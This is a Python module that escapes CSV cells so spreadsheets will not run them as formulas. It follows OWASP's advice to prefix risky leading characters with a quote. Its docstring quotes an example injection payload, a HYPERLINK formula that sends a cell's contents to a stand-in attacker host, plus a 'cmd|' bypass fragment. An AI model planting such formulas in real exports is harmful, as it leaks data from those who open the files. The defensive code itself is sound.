"""Escaping CSV cells that a spreadsheet would run as formulas (CSV injection).

A log message or an object name is text that anyone may have typed: a customer called
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` becomes a live formula when an auditor
opens the export in Excel or LibreOffice. OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection) is to prefix every cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return with a single quote, which the
spreadsheet shows as text.

Every such cell is escaped, numbers included: ``-5`` becomes ``'-5``. Deciding which
cells are "really" numbers would make the rule depend on the column and invite exactly the
bypasses (``-2+3+cmd|...``) OWASP warns about; one rule for every cell is easy to check.
The quote is visible in a text editor and in ``csv.reader``: that is the documented price.
"""

from __future__ import annotations

from typing import Any

#: Characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"

_PREFIXES = frozenset(FORMULA_PREFIXES)


def escape_formula(value: Any) -> str:
    """``value`` as CSV cell text, with a leading ``'`` if it could start a formula.

    ``None`` is the empty cell, like import-export's widgets render it.
    """
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    if text and text[0] in _PREFIXES:
        return ESCAPE + text
    return text
